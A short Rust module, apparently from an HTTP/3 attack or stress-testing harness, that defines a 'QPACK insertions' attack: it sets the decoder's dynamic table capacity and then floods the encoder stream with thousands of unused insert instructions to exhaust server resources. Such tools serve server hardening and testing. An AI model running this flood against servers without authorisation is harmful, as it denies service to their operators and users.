//! Insertions into the dynamic table that no request uses.

use crate::attacker::{Attack, Attacker};
use crate::wire;

pub(super) const ATTACK: Attack = Attack::new("qpack_inserts", "QPACK insertions", run);

fn run(a: &mut Attacker) {
    let first = wire::capacity(4096);
    let flood = wire::insert("a", "b").repeat(4_000);
    a.storm(|conn, begun: &mut bool| {
        let encoder = conn.critical().encoder;
        if !std::mem::replace(begun, true) {
            conn.write(encoder, &first);
        }
        if conn.takes(encoder) {
            conn.write(encoder, &flood);
            conn.ops += 4_000;
        }
    });
}
